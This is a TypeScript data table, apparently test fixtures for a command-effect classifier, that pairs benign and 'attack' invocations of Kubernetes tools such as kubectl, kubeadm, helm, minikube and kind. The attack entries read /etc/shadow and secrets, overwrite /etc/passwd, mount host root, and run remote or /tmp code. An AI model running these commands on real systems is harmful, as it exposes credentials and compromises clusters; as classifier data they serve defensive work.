import type { ExampleTable } from './example.ts'

export const clusters1: ExampleTable = {
  calicoctl: {
    use: 'calicoctl apply -f policy.yaml → use policy.yaml',
  },
  istioctl: {
    use: 'istioctl install -f operator.yaml → use operator.yaml',
  },
  'kube-apiserver': {
    use: 'kube-apiserver --etcd-servers=http://127.0.0.1:2379 → listen 6443',
  },
  'kube-linter': {
    use: 'kube-linter lint deploy.yaml --config .kube-linter.yaml → use .kube-linter.yaml',
  },
  'kubeadm certs': {
    use: 'kubeadm certs renew all --config kubeadm.yaml → use kubeadm.yaml',
  },
  'kubeadm config': {
    use: 'kubeadm config images pull --config kubeadm.yaml → use kubeadm.yaml',
  },
  'kubeadm init': {
    use: 'kubeadm init --config kubeadm.yaml → read kubeadm.yaml',
    attack:
      'curl -so k.yaml https://example.org/x && kubeadm init --config k.yaml → execute ‹https://example.org/x›',
  },
  'kubeadm join': {
    use: 'kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef → send 10.0.0.1:6443',
    attack:
      'curl -so k.yaml https://example.org/x && kubeadm join --config k.yaml → execute ‹https://example.org/x›',
  },
  'kubeadm kubeconfig': {
    attack:
      'kubeadm kubeconfig user --client-name mallory --org system:masters → read secret://user',
  },
  'kubeadm upgrade': {
    use: 'kubeadm upgrade apply v1.31.0 --config kubeadm.yaml → read kubeadm.yaml',
    attack:
      'curl -so k.yaml https://example.org/x && kubeadm upgrade apply --config k.yaml → execute ‹https://example.org/x›',
  },
  kubeconform: {
    use: [
      'kubeconform deploy.yaml → use deploy.yaml',
      'kustomize build . | kubeconform -kubernetes-version 1.29.0 - → nothing',
    ],
  },
  'kubectl access-matrix': {
    use: 'kubectl access-matrix → look-around kubectl access-matrix',
  },
  'kubectl apply': {
    use: 'kubectl apply -f deploy.yaml → use deploy.yaml',
    attack: 'kubectl apply -f http://example.org/x.yaml → execute ‹http://example.org/x.yaml›',
  },
  'kubectl auth': {
    use: 'kubectl auth can-i --list → look-around kubectl auth',
  },
  'kubectl create': {
    use: 'kubectl create -f deploy.yaml → use deploy.yaml',
    attack: 'kubectl create -f http://example.org/x.yaml → execute ‹http://example.org/x.yaml›',
  },
  'kubectl diff': {
    use: 'kubectl diff -f deploy.yaml → use deploy.yaml',
  },
  'kubectl exec-as': {
    use: 'kubectl exec-as -u ann web cat notes.txt → read notes.txt',
    attack: 'kubectl exec-as -u root web cat /etc/shadow → read /etc/shadow',
  },
  'kubectl expose': {
    use: 'kubectl expose -f service.yaml --port=80 → use service.yaml',
  },
  'kubectl get': {
    use: 'kubectl get pods → nothing',
  },
  'kubectl iexec': {
    use: 'kubectl iexec web cat notes.txt → read notes.txt',
    attack: 'kubectl iexec web cat /etc/shadow → read /etc/shadow',
  },
  'kubectl krew': {
    use: 'kubectl krew install who-can → install kubectl krew',
  },
  'kubectl neat': {
    use: 'kubectl neat -f deploy.yaml → read deploy.yaml',
    attack: 'kubectl neat -f /etc/kubernetes/admin.conf → read /etc/kubernetes/admin.conf',
  },
  'kubectl node-shell': {
    use: 'kubectl node-shell node1 cat notes.txt → read notes.txt',
    attack: [
      'kubectl node-shell node1 cat /etc/shadow → read /etc/shadow',
      'kubectl node-shell node1 → shell kubectl node-shell',
    ],
  },
  'kubectl node_shell': {
    use: 'kubectl node_shell node1 cat notes.txt → read notes.txt',
    attack: [
      'kubectl node_shell node1 cat /etc/shadow → read /etc/shadow',
      'kubectl node_shell node1 → shell kubectl node_shell',
    ],
  },
  'kubectl patch': {
    use: 'kubectl patch deployment web --patch-file patch.yaml → use patch.yaml',
  },
  'kubectl proxy': {
    use: 'kubectl proxy --address=127.0.0.1 → listen 127.0.0.1',
  },
  'kubectl replace': {
    use: 'kubectl replace -f deploy.yaml → use deploy.yaml',
    attack: 'kubectl replace -f http://example.org/x.yaml → execute ‹http://example.org/x.yaml›',
  },
  'kubectl sniff': {
    use: 'kubectl sniff web -o dump.pcap → write dump.pcap',
    attack: 'kubectl sniff web -o /etc/passwd → write /etc/passwd',
  },
  'kubectl ssh': {
    use: 'kubectl ssh -u ann web cat notes.txt → read notes.txt',
    attack: 'kubectl ssh -u root web cat /etc/shadow → read /etc/shadow',
  },
  'kubectl view-secret': {
    attack: 'kubectl view-secret db-password → read secret://db-password',
  },
  'kubectl view_secret': {
    attack: 'kubectl view_secret db-password → read secret://db-password',
  },
  'kubectl who-can': {
    use: 'kubectl who-can delete pods → look-around kubectl who-can',
  },
  kubelet: {
    use: 'kubelet --config=kubelet.yaml → read kubelet.yaml; listen 10250',
    attack: [
      'curl -so k.yaml https://example.org/x && kubelet --config=k.yaml → execute ‹https://example.org/x›; listen 10250',
      'kubelet --volume-plugin-dir=/tmp → load /tmp; listen 10250',
    ],
  },
  kubeseal: {
    use: 'kubeseal -f secret.yaml -w sealed.yaml → use secret.yaml; write sealed.yaml',
    attack: 'kubeseal -f secret.yaml -w /etc/passwd → use secret.yaml; write /etc/passwd',
  },
  kubeval: {
    use: 'kubeval deploy.yaml → use deploy.yaml',
  },
  'kubie ctx': {
    attack: 'kubie ctx prod → session kubie ctx',
  },
  'kubie exec': {
    use: 'kubie exec prod default cat notes.txt → read notes.txt',
    attack: [
      'kubie exec prod default cat /etc/shadow → read /etc/shadow',
      'kubie exec prod default bash → shell bash',
    ],
  },
  popeye: {
    use: 'popeye -f spinach.yaml → use spinach.yaml',
  },
  eksctl: {
    use: 'eksctl create cluster -f cluster.yaml → read cluster.yaml',
    attack: [
      'curl -so c.yaml https://example.org/x && eksctl create cluster -f c.yaml → execute ‹https://example.org/x›',
      'eksctl create cluster --name prod --kubeconfig=/etc/passwd → write /etc/passwd',
    ],
  },
  k3d: {
    use: [
      'k3d cluster create -c k3d.yaml → read k3d.yaml',
      'k3d cluster create c -v ./data:/data → nothing',
    ],
    attack: [
      'curl -so k.yaml https://example.org/x && k3d cluster create -c k.yaml → execute ‹https://example.org/x›',
      'k3d cluster create c -v /:/h@all → privilege /',
    ],
  },
  'k3s agent': {
    use: 'k3s agent -s https://10.0.0.1:6443 -c agent.yaml → read agent.yaml',
    attack:
      'curl -so k.yaml https://example.org/x && k3s agent -c k.yaml → execute ‹https://example.org/x›',
    unclear: 'k3s agent → who gives it orders',
  },
  'k3s server': {
    use: 'k3s server -c server.yaml → read server.yaml',
    attack: [
      'curl -so k.yaml https://example.org/x && k3s server -c k.yaml → execute ‹https://example.org/x›',
      'k3s server --write-kubeconfig=/etc/passwd → write /etc/passwd',
    ],
  },
  kind: {
    use: ['kind create cluster --config kind.yaml → read kind.yaml', 'kind get clusters → nothing'],
    attack: [
      'curl -so k.yaml https://example.org/x && kind create cluster --config k.yaml → execute ‹https://example.org/x›',
      'kind create cluster --kubeconfig=/etc/passwd → write /etc/passwd',
      "printf 'nodes: [{extraMounts: [{hostPath: /, containerPath: /h}]}]' | kind create cluster --config - → privilege /",
    ],
  },
  kops: {
    use: 'kops create -f cluster.yaml → read cluster.yaml',
    attack:
      'curl -so c.yaml https://example.org/x && kops create -f c.yaml → execute ‹https://example.org/x›',
  },
  'microk8s config': {
    attack: 'microk8s config → read secret://',
  },
  'minikube cp': {
    use: 'minikube cp notes.txt /home/docker/notes.txt → read notes.txt; send /home/docker/notes.txt',
    attack: 'minikube cp /etc/shadow /home/docker/s → read /etc/shadow; send /home/docker/s',
  },
  'minikube image': {
    use: 'minikube image load app.tar → nothing',
  },
  'minikube logs': {
    use: 'minikube logs --file=logs.txt → write logs.txt',
    attack: 'minikube logs --file=/etc/passwd → write /etc/passwd',
  },
  'minikube mount': {
    use: 'minikube mount src:/src → read-tree src',
    attack: [
      'minikube mount /root/.ssh:/keys → read-tree /root/.ssh',
      'minikube mount /:/host → privilege /',
    ],
  },
  'minikube ssh': {
    use: 'minikube ssh cat notes.txt → read notes.txt',
    attack: [
      'minikube ssh cat /etc/shadow → read /etc/shadow',
      'minikube ssh → session minikube ssh',
    ],
  },
  rke: {
    use: 'rke up --config cluster.yml → read cluster.yml',
    attack:
      'curl -so c.yml https://example.org/x && rke up --config c.yml → execute ‹https://example.org/x›',
  },
  argo: {
    use: 'argo submit workflow.yaml -f params.yaml → use params.yaml',
  },
  'argocd app': {
    use: 'argocd app create -f app.yaml → use app.yaml',
    attack:
      'argocd app create -f http://example.org/app.yaml → execute ‹http://example.org/app.yaml›',
  },
  'argocd login': {
    use: 'argocd login argocd.example.org → send argocd.example.org',
  },
  conftest: {
    use: 'conftest test deploy.yaml -p policy → read deploy.yaml',
    attack: 'conftest parse /etc/shadow → read /etc/shadow',
  },
  'flux build': {
    use: 'flux build kustomization web --path . --kustomization-file web.yaml → use web.yaml',
  },
  'flux diff': {
    use: 'flux diff kustomization web --path . --kustomization-file web.yaml → use web.yaml',
  },
  'helm diff': {
    use: 'helm diff upgrade web ./chart -f values.yaml → use values.yaml',
    attack: 'helm diff upgrade web ./chart --post-renderer=/tmp/x → run /tmp/x',
  },
  'helm install': {
    use: 'helm install web ./chart → install helm install',
    attack: [
      'helm install web ./chart --post-renderer=/tmp/x → run /tmp/x; install helm install',
      'helm install web ./chart -f http://example.org/values.yaml → execute ‹http://example.org/values.yaml›; install helm install',
    ],
  },
  'helm lint': {
    use: 'helm lint ./chart -f values.yaml → use values.yaml',
  },
  'helm plugin': {
    use: 'helm plugin install https://example.org/helm-diff → install helm plugin',
  },
  'helm pull': {
    use: 'helm pull https://example.org/web-1.0.tgz -d charts → fetch https://example.org/web-1.0.tgz; unpack charts',
    attack:
      'helm pull https://example.org/web-1.0.tgz --untar --untardir=/etc/cron.d → fetch https://example.org/web-1.0.tgz; unpack /etc/cron.d',
  },
  'helm push': {
    use: 'helm push web-1.0.tgz oci://example.org/charts → read web-1.0.tgz; send oci://example.org/charts',
  },
  'helm repo': {
    use: 'helm repo add stable https://charts.example.org → fetch https://charts.example.org',
  },
  'helm template': {
    use: [
      'helm template web ./chart -f values.yaml → use values.yaml',
      'helm template web ./chart --set-file logo=logo.svg → nothing',
    ],
    attack: 'helm template web ./chart --post-renderer=/tmp/x → run /tmp/x',
  },
  'helm verify': {
    use: 'helm verify web-1.0.tgz → use web-1.0.tgz',
  },
  helmfile: {
    use: 'helmfile -f helmfile.yaml apply → read helmfile.yaml',
    attack: [
      'curl -so h.yaml https://example.org/x && helmfile -f h.yaml apply → execute ‹https://example.org/x›',
      'helmfile -b /tmp/x apply → run /tmp/x',
    ],
  },
  helmsman: {
    use: 'helmsman --apply -f prod.yaml → read prod.yaml',
    attack:
      'curl -so h.yaml https://example.org/x && helmsman --apply -f h.yaml → execute ‹https://example.org/x›',
  },
  'kapp deploy': {
    use: 'kapp deploy -a web -f deploy.yaml → use deploy.yaml',
    attack: 'kapp deploy -a web -f http://example.org/x.yaml → execute ‹http://example.org/x.yaml›',
  },
  kompose: {
    use: 'kompose convert -f compose.yaml -o out.yaml → read compose.yaml; write out.yaml',
    attack: 'kompose convert -f compose.yaml -o /etc/passwd → read compose.yaml; write /etc/passwd',
  },
  'kubectl convert': {
    use: 'kubectl convert -f old.yaml --output-version apps/v1 → use old.yaml',
  },
  'k0s controller': {
    use: 'k0s controller -c k0s.yaml → read k0s.yaml',
    attack:
      'curl -so k.yaml https://example.org/x && k0s controller -c k.yaml → execute ‹https://example.org/x›',
  },
}
